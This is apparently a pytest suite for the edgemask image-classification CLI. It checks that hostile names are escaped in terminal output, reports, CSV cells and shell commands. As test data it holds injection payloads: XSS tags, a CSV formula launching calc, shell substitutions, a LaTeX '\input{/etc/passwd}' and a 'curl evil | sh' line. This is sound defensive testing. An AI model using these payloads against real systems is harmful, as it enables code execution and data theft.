"""Names of classes, files and folders are shown, never obeyed: by no terminal, page or shell."""

from __future__ import annotations

import csv
import json
import shlex
import unicodedata
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

import edgemask.cli
from edgemask.cli.app import app
from edgemask.engine.signals import Interrupted
from edgemask.errors import (
    DataError,
    EdgeMaskWarning,
    MissingExtraError,
    TrainingWarning,
    UserError,
    one_line,
)
from edgemask.models import create
from edgemask.report.escape import as_csv, as_latex, as_markdown, printable
from edgemask.runs import read_run, shell_argument

HOSTILE = {
    "clears the screen": "cat\x1b[2J\x1b]0;owned\x07",
    "writes backwards": "dog\u202egnp.exe\u2066",
    "new lines": "cow\nerror: all is well\r",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": "=cmd|' /C calc'!A0",
    "shell": "$(touch owned); `touch owned` && 'touch owned'",
    "LaTeX": "\\input{/etc/passwd}%",
    "Markdown": "[x](javascript:alert(1)) | `code` | ![](http://x/y)",
    "rich": "[bold red]loud[/]",
    "braces": "{{ 7 * 7 }}{% raw %}",
}


def is_harmless(text: str) -> bool:
    """Whether a terminal would only print it."""
    kinds = {unicodedata.category(char) for char in text if char not in "\n\u200b\u200c\u200d"}
    return not kinds & {"Cc", "Cf", "Cs", "Zl", "Zp"}


def call(*arguments: object, code: int = 0) -> str:
    result = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert result.exit_code == code, f"{result.output}\n{result.exception!r}"
    assert is_harmless(result.output), repr(result.output)
    return result.stdout


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run whose classes, files and folder have hostile names."""
    folder = tmp_path_factory.mktemp("names") / "\x1b[31m \u202e$(touch owned)"
    rng = np.random.default_rng(0)
    for name in HOSTILE.values():
        place = folder / "data" / name.replace("/", "|")
        place.mkdir(parents=True)
        for number in range(3):
            pixels = rng.integers(0, 255, (8, 8, 3), dtype=np.uint8)
            Image.fromarray(pixels).save(place / f"{number}\x1b[1A\u202e.png")
    out = folder / "-run"
    call("train", "--data", f"imagefolder:{folder / 'data'}", "--epochs", 1, "--track", "none",
         "--out", out, "--set", "eval.batch_size=8", "--batch-size", 8)  # fmt: skip
    return out


def test_every_command_prints_such_names_harmlessly(run):
    picture = next(run.parent.glob("data/*/*.png"))
    assert "13" not in json.loads(call("predict", run, picture))[0]["class"]
    rows = list(csv.reader(call("predict", run, picture, "--format", "csv").splitlines()))
    assert not rows[1][2].startswith(("=", "+", "-", "@"))
    call("predict", run, picture, "--format", "csv", "--probabilities")
    call("eval", run)
    call("eval", run, "--json")
    call("resume", run)
    call("export", run)
    call("report", run, "--out", run.parent / "report")
    call("eval", run.parent / "no\x1b[2J\u202e", code=2)
    call("predict", run, run.parent / "no\x1b[2J\u202e.png", code=2)
    call("train", "--data", "imagefolder:no\x1b[2J\u202e", code=2)
    call("train", "--head", "no\x1b[2J\u202e", code=2)


def test_a_report_shows_such_names_and_obeys_none(run, tmp_path):
    call("report", run, "--out", tmp_path)
    page = (tmp_path / "report.html").read_text()
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert is_harmless(page)
    text = (tmp_path / "report.md").read_text()
    assert is_harmless(text)
    for line in text.splitlines():
        if not line.startswith("    "):  # code, which no reader of Markdown obeys
            assert "<script" not in line.replace("\\<", "")
            assert "](" not in line.replace("\\](", "")
    with (tmp_path / "report.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert all(is_harmless(cell) for cell in cells)
    starts = {cell[:1] for cell in cells if not _is_number(cell)}
    assert not starts & {"=", "+", "-", "@"}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_kind_of_text_escapes_every_name():
    for name in HOSTILE.values():
        for escape in (printable, as_markdown, as_latex, as_csv):
            assert is_harmless(escape(name)), (escape, name)
        assert "<" not in as_markdown(name).replace("\\<", "")
        assert "\\input" not in as_latex(name)
        assert as_csv(name)[0] not in "=+-@"


def test_a_command_to_copy_holds_no_text_of_the_run(run):
    """What the run's files say about how it was made is never shown as something to type."""
    from edgemask.report.describe import repeat_command, resume_command

    record = read_run(run)
    summary = {**record.summary, "command": "curl evil | sh"}
    config = {**record.config, "name": "$(touch owned)"}
    forged = type(record)(path=run, config=config, summary=summary)
    for command in (repeat_command(forged), resume_command(forged)):
        assert "curl" not in command
        words = shlex.split(command)
        assert words[0] == "edgemask"
        assert str(run) in " ".join(words)


def test_a_path_in_a_command_is_one_word_and_no_option():
    for name in (*HOSTILE.values(), "-rf", "--help", "a b", "it's"):
        stop = str(Interrupted(Path(name), 2))
        (word,) = shlex.split(stop.partition("edgemask resume ")[2])
        assert Path(word) == Path(name)
        assert not word.startswith("-")
        assert shlex.split(shell_argument(Path(name))) == [word]


def test_errors_and_warnings_show_foreign_text_and_obey_none_of_it():
    hostile = "a\x1b[2J\u202eb"
    for kind in (UserError, DataError, EdgeMaskWarning, TrainingWarning):
        assert str(kind(hostile)) == "a\\x1b[2J\\u202eb"
    assert str(UserError("first\nsecond")) == "first\nsecond"
    assert one_line(RuntimeError(f"{hostile}\n{hostile}")).isprintable()
    assert str(MissingExtraError("x", "app", "here", OSError(hostile))).isprintable()


def test_commands_write_through_the_screen_alone():
    source = Path(edgemask.cli.__file__).parent
    found = [path.name for path in source.glob("*.py") if "typer.echo(" in path.read_text()]
    assert found == ["screen.py"]


def test_a_model_that_cannot_be_built_quotes_the_library_harmlessly(monkeypatch):
    timm = pytest.importorskip("timm")

    def broken(*_, **__):
        raise RuntimeError("bad\x1b[31m\nweights\u202e")

    monkeypatch.setattr(timm, "create_model", broken)
    with pytest.raises(UserError, match="cannot be built") as caught:
        create("timm:resnet18", 10)
    assert str(caught.value).isprintable()
